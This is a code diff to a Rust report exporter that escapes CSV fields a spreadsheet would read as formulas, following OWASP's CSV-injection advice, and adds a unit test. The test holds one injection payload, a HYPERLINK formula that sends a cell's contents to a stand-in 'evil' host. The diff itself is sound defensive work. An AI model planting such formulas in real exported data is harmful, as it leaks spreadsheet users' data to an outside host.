@@ -1050,11 +1050,19 @@ pub fn to_table(r: &Report) -> String {
     s
 }
 
+/// One CSV field, quoted when it must be. A field that a spreadsheet would read as a
+/// formula (it starts with `=`, `+`, `-` or `@`: an id set by an import can) gets a
+/// leading `'`, which spreadsheets show as text (OWASP's advice on CSV injection).
 fn csv_field(v: &str) -> String {
+    let v = if v.starts_with(['=', '+', '-', '@']) {
+        format!("'{v}")
+    } else {
+        v.to_string()
+    };
     if v.contains([',', '"', '\n']) {
         format!("\"{}\"", v.replace('"', "\"\""))
     } else {
-        v.to_string()
+        v
     }
 }
 
@@ -1170,4 +1178,24 @@ pub fn to_svg(r: &Report) -> String {
     }
     s.push_str("</svg>\n");
     s
+}
+
+#[cfg(test)]
+mod csv_tests {
+    use super::csv_field;
+
+    /// A party id (any printable text an import may bring) must not become a formula in
+    /// the spreadsheet that opens the report's CSV.
+    #[test]
+    fn a_field_a_spreadsheet_would_run_as_a_formula_is_shown_as_text() {
+        assert_eq!(
+            csv_field("=HYPERLINK(\"http://evil/?\"&A1),\"x"),
+            "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1),\"\"x\""
+        );
+        for f in ["+1", "-1", "@SUM(A1)", "=1"] {
+            assert_eq!(csv_field(f), format!("'{f}"));
+        }
+        assert_eq!(csv_field("org-001"), "org-001");
+        assert_eq!(csv_field("a,b"), "\"a,b\"");
+    }
 }
